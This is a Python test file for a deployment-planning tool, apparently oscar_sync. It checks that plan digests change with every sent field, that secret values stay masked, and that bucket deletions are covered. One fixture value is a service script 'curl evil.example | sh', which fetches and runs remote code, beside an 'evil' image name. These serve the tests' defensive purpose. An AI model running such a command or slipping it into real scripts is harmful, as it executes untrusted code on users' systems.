"""The plan is a contract: what is sent is shown, and the digest covers it (trust 1.1, 1.2)."""

from datetime import UTC, datetime, timedelta

import pytest
from msgspec.structs import replace

from oscar_sync.model.action import ActionKind, Kept, Preconditions
from oscar_sync.model.cluster import Cluster
from oscar_sync.model.field_change import Op
from oscar_sync.model.identity import BucketName
from oscar_sync.model.masks import Masked, Masks
from oscar_sync.model.material import EraseMaterial, FingerprintKey, HookMaterial
from oscar_sync.model.origin import Origin
from oscar_sync.model.plan_options import PlanOptions, Scope
from oscar_sync.model.secret import Secret
from oscar_sync.model.settings import RemovedEntry, Which
from oscar_sync.model.state import BucketCount, SeedDifference, Upload
from oscar_sync.planning.digest import plan_digest
from oscar_sync.planning.sensitive import is_sensitive
from oscar_sync.planning.sent import sends_of
from tests.support.forms import form
from tests.unit.planning.built import (
    CLUSTER,
    EDGE,
    bucket,
    live,
    minio,
    planned,
    seed,
    seeded,
    stamp,
    view,
    wanted,
)

KEY = FingerprintKey(Secret("k" * 32), "0123abcd")
FAR = {"type": "oscar", "cluster_id": "far"}
FEDERATED: dict[str, object] = {"topology": "star", "members": [FAR]}
EDITS: dict[str, dict[str, object]] = {
    "image": {"image": "ghcr.io/evil/a:1"},
    "memory": {"memory": "64Gi"},
    "cpu": {"cpu": "32"},
    "script": {"script": "curl evil.example | sh\n"},
    "visibility": {"visibility": "public"},
    "users": {"visibility": "restricted", "allowed_users": ["mallory@x"]},
    "variables": {"environment": {"variables": {"A": "1"}}},
    "labels": {"labels": {"team": "x"}},
    "annotations": {"annotations": {"x/y": "z"}},
    "input": {"input": minio("alpha/in")},
    "output": {"output": minio("alpha/out")},
    "suffix": {"output": [{**minio("alpha/out")[0], "suffix": ["jpg"]}]},
    "expose": {"expose": {"api_port": [80], "min_scale": 1, "max_scale": 1}},
    "volume": {"volume": {"size": "1Gi", "mount_path": "/data"}},
    "mount": {"mount": {"storage_provider": "minio.default", "path": "/m"}},
    "federation": {"federation": FEDERATED},
    "member": {"federation": {**FEDERATED, "members": [{"type": "oscar", "cluster_id": "near"}]}},
    "clusters": {
        "federation": FEDERATED,
        "clusters": {"far": {"endpoint": "https://far.example", "auth_user": "me"}},
    },
    "provider": {"storage_providers": {"s3": {"aws": {"access_key": "a", "region": "r"}}}},
    "another region": {"storage_providers": {"s3": {"aws": {"access_key": "a", "region": "s"}}}},
    "another key": {"storage_providers": {"s3": {"aws": {"access_key": "b", "region": "r"}}}},
    "prefetch": {"image_prefetch": True},
    "log level": {"log_level": "DEBUG"},
    "pull secrets": {"image_pull_secrets": ["regcred"]},
    "interlink": {"interlink_node_name": "node"},
    "isolation": {"isolation_level": "USER"},
    "synchronous": {"synchronous": {"min_scale": 1}},
    "nothing": {},
}


def secretly(**secrets):
    return replace(wanted(), secrets={name: Secret(value) for name, value in secrets.items()})


def action_of(plan):
    (action,) = plan.all_actions
    return action


def test_no_two_creations_that_send_different_things_have_one_digest():
    plans = {name: planned(view(), wanted(**edit), key=KEY) for name, edit in EDITS.items()}
    secrets = {
        "secret": planned(view(), secretly(A="one"), key=KEY),
        "secret's value": planned(view(), secretly(A="two"), key=KEY),
        "secret's name": planned(view(), secretly(B="one"), key=KEY),
    }
    digests = {name: plan.digest for name, plan in {**plans, **secrets}.items()}
    assert len(set(digests.values())) == len(digests)


@pytest.mark.parametrize("name", [name for name in EDITS if name != "nothing"])
def test_each_field_that_a_creation_sends_is_listed_with_its_value(name):
    before = {one.path: one.after for one in action_of(planned(view(), wanted())).changes}
    changes = action_of(planned(view(), wanted(**EDITS[name]), key=KEY)).changes
    told = {one.path: one.after for one in changes if before.get(one.path) != one.after}
    assert told
    assert {one.op for one in changes} == {Op.ADD}


def test_a_creation_lists_nothing_that_is_at_its_default():
    changes = action_of(
        planned(view(), wanted(memory="256Mi", cpu="0.2", log_level="info"))
    ).changes
    assert [one.path for one in changes] == ["image", "script"]


def test_what_stands_beside_a_secret_is_shown_and_the_secret_is_not():
    account = {"access_key": "AKIA-1", "secret_key": "hunter-2", "region": "r"}
    there = view(live(annotations=stamp()))
    for cluster in (view(), there):
        action = action_of(
            planned(cluster, wanted(storage_providers={"s3": {"aws": account}}), key=KEY)
        )
        told = {one.path: (one.after, one.is_sensitive) for one in action.changes}
        assert told["storage_providers.s3.aws.region"] == ("r", False)
        after, is_masked = told["storage_providers.s3.aws.secret_key"]
        assert (str(after)[:12], is_masked) == ("fingerprint ", True)
        assert "hunter-2" not in repr(action)
        assert "AKIA-1" not in repr(action)


@pytest.mark.parametrize("is_there", [False, True])
def test_the_address_beside_a_secret_is_in_the_digest(is_there):
    cluster = view(live(annotations=stamp())) if is_there else view()
    digests = {
        planned(
            cluster,
            wanted(storage_providers={"minio": {"mine": {"endpoint": place, "secret_key": "s"}}}),
        ).digest
        for place in ("https://a.example", "https://b.example")
    }
    assert len(digests) == 2


def test_an_account_may_be_called_like_a_secret_field():
    assert not is_sensitive(("storage_providers", "s3", "access_key"))
    assert not is_sensitive(("storage_providers", "s3", "access_key", "region"))
    assert is_sensitive(("storage_providers", "s3", "access_key", "access_key"))
    assert is_sensitive(("federation", "members", 0, "headers", "Authorization"))
    assert not is_sensitive(("environment", "variables", "region"))
    assert is_sensitive(("environment", "variables", "access_key"))  # a name that says so


def test_without_a_key_the_digest_tells_secrets_by_name_and_the_plan_says_so():
    one, two = (planned(view(), secretly(A=value)) for value in ("one", "two"))
    assert one.digest == two.digest
    assert planned(view(), secretly(B="one")).digest != one.digest
    assert any("does not cover the values of secrets" in note for note in one.notes)
    assert not any(
        "does not cover" in note for note in planned(view(), secretly(A="one"), key=KEY).notes
    )


def test_what_is_sent_is_hashed_with_the_value_of_each_secret_and_without_it_for_want_of_a_key():
    def sends(value, key):
        return sends_of(EraseMaterial(CLUSTER, (4, 1, 2), secrets={"A": Secret(value)}), key)

    assert sends("one", KEY) != sends("two", KEY)
    assert sends("one", KEY) == sends("one", KEY)
    assert sends("one", None) == sends("two", None) != sends("", None)
    assert sends("one", KEY) != sends("", KEY)


def sends_variable(value, written, key):
    """Return the hash for a variable of the service that an overlay takes from the machine."""
    masks = Masks(
        (Masked("environment", value, written),), (Masked("environment", value, written),)
    )
    sent = form(environment={"variables": {"A": value, "B": f"with {value}"}})
    return sends_of(HookMaterial(CLUSTER, (4, 1, 2), live=live(), form=sent, masks=masks), key)


@pytest.mark.parametrize("written", ["${TAG}", "${OSCAR_PASSWORD}"])
def test_no_hash_tells_what_a_variable_put_in_to_who_has_no_key(written):
    """With the key's hash nobody can try passwords at home: a branch names any variable."""
    keyed = sends_variable("weak", written, KEY)
    assert keyed != sends_variable("weak", written, FingerprintKey(Secret("o" * 32), "0123abcd"))
    assert keyed != sends_variable("weaker", written, KEY)


def test_without_a_key_a_variable_that_is_called_like_a_secret_counts_by_its_name():
    one, two = (sends_variable(value, "${OSCAR_PASSWORD}", None) for value in ("weak", "other"))
    assert one == two != sends_variable("weak", "${OSCAR_TOKEN}", None)
    assert sends_variable("v1.0", "${TAG}", None) != sends_variable("v2.0", "${TAG}", None)


def test_the_plan_says_that_it_does_not_cover_such_a_variable():
    masks = Masks((Masked("environment", "weak", "${OSCAR_PASSWORD}"),))
    service = replace(wanted(environment={"variables": {"A": "weak"}}), masks=masks)
    assert any("does not cover" in note for note in planned(view(), service).notes)
    assert not any("does not cover" in note for note in planned(view(), service, key=KEY).notes)


def test_an_input_is_one_line_and_a_member_with_headers_one_for_each_value():
    member = {"type": "endpoint", "url": "https://h", "headers": {"Auth": "Bearer x"}}
    plan = planned(
        view(),
        wanted(input=minio("alpha/in"), federation={**FEDERATED, "members": [member]}),
        key=KEY,
    )
    told = [one.path for one in action_of(plan).changes]
    assert "input[0]" in told
    assert "federation.members[0].url" in told
    assert "federation.members[0].headers.Auth" in told
    assert len(told) == len(set(told))


def test_a_replacement_lists_what_it_creates_again():
    there = live(annotations=stamp(), memory="1Gi", volume={"name": "v", "mount_path": "/a"})
    plan = planned(
        view(there), wanted(memory="1Gi", volume={"name": "v", "mount_path": "/b"}), key=KEY
    )
    action = action_of(plan)
    assert action.kind is ActionKind.REPLACE
    told = {one.path: one.op for one in action.changes}
    assert told["memory"] is Op.SAME
    assert told["volume.mount_path"] is Op.CHANGE
    assert not action.is_drifted or told["image"] is Op.SAME


def test_adopting_shows_the_secrets_that_it_sends():
    there = live(environment={"secrets": {"TOKEN": ""}})
    options = PlanOptions(scope=Scope.ADOPT, names=("alpha",))
    plans = [
        planned(view(there), secretly(TOKEN=value), key=KEY, options=options)
        for value in ("one", "two")
    ]
    (change,) = action_of(plans[0]).changes
    assert (change.path, change.before) == ("environment.secrets.TOKEN", "not compared")
    assert plans[0].digest != plans[1].digest


@pytest.mark.parametrize(
    ("field", "other"),
    [
        ("identity", "x"),
        ("endpoint", "http://127.0.0.1:2"),
        ("ssl_verify", False),
        ("s3_endpoint", "http://127.0.0.1:2"),
    ],
)
def test_the_same_plan_for_another_cluster_of_that_name_has_another_digest(field, other):
    here = view()
    there = replace(here, cluster=replace(here.cluster, **{field: other}))
    assert isinstance(there.cluster, Cluster)
    assert there.cluster.id == EDGE
    elsewhere = replace(here, cluster=replace(here.cluster, **{field: "https://c.example"}))
    digests = {planned(cluster, wanted()).digest for cluster in (here, there, elsewhere)}
    assert len(digests) == 3


def test_the_set_that_marks_a_service_is_in_the_digest():
    digests = {planned(view(), wanted(), set_name=name).digest for name in ("laws", "others", "")}
    assert len(digests) == 3


# what is deleted

SEEN = BucketCount(3, 6, datetime(2026, 1, 2, tzinfo=UTC))
MORE = {
    "objects": replace(SEEN, objects=4),
    "bytes": replace(SEEN, size_bytes=7),
    "last write": replace(SEEN, last_write=datetime(2026, 1, 3, tzinfo=UTC)),
    "at least": replace(SEEN, is_at_least=True),
}


def erasing(count):
    cluster = view(live(output=minio("red/out"), annotations=stamp()), buckets=[bucket("red")])
    cluster = replace(cluster, counts={BucketName("red"): count})
    entry = RemovedEntry(Which("alpha"), erase=("red",), origin=wanted().locate(()))
    return planned(cluster, removed=(entry,))


@pytest.mark.parametrize("what", MORE)
def test_what_a_deleted_bucket_holds_is_in_the_digest(what):
    assert erasing(SEEN).digest != erasing(MORE[what]).digest
    assert not MORE[what].is_within(SEEN)
    assert SEEN.is_within(SEEN)


def test_less_is_within_what_was_seen_and_a_bound_without_end_holds_anything():
    empty = BucketCount(0, 0)
    assert empty.is_within(SEEN)
    assert not SEEN.is_within(empty)
    assert not SEEN.is_within(replace(SEEN, last_write=None))
    later = replace(SEEN, objects=10**9, last_write=datetime.now(UTC) + timedelta(days=1))
    assert later.is_within(replace(SEEN, is_at_least=True))


def test_what_a_seed_uploads_and_with_whose_keys_is_in_the_digest():
    def plan(checksum, region):
        provider = {"s3": {"aws": {"access_key": "a", "secret_key": "s", "region": region}}}
        wish = seed("far/in", provider="s3.aws")
        found = SeedDifference((Upload("/files/in/a", "far/in/a", 1, checksum),))
        cluster = view(live(storage_providers=provider, annotations=stamp()), seeds={wish: found})
        return planned(cluster, wanted(storage_providers=provider), services=seeded(wish), key=KEY)

    one = plan("sha256:1", "r")
    assert action_of(one).kind is ActionKind.SEED
    assert plan("sha256:2", "r").digest != one.digest
    assert plan("sha256:1", "s").digest != one.digest


def test_the_digest_covers_what_a_review_of_a_removal_rests_on():
    service = live(annotations=stamp(), input=minio("red/in"))
    entry = RemovedEntry(Which("alpha"), Origin("oscar-sync.yaml"), erase=("red",))
    plan = planned(view(service, buckets=[bucket("red")], count=3), removed=(entry,))
    (action,) = plan.actions
    (item,) = action.erases
    edits = (
        {"preconditions": Preconditions("another service by now")},
        {"sends": "0" * 32},
        {"steps": action.steps[:-1]},
        {"erases": ()},
        {"erases": (replace(item, consent="erase:red"),)},
        {"erases": (replace(item, objects=4),)},
        {"erases": (replace(item, size_bytes=4),)},
        {"erases": (replace(item, is_at_least=True),)},
        {"erases": (replace(item, last_write=datetime(2026, 1, 1, tzinfo=UTC)),)},
        {"keeps": (Kept(BucketName("blue")),)},
    )
    others = [replace(plan, actions=(replace(action, **edit),)) for edit in edits]
    others.append(replace(plan, consents=("take-over:alpha",)))
    for field in ("id", "identity", "endpoint", "ssl_verify", "s3_endpoint"):
        (cluster,) = plan.clusters
        other = not cluster.ssl_verify if field == "ssl_verify" else "other"
        moved = replace(cluster, **{field: other})
        others.append(replace(plan, clusters=(moved,)))
    digests = {plan.digest, *map(plan_digest, others)}
    assert plan_digest(plan) == plan.digest
    assert len(digests) == len(others) + 1
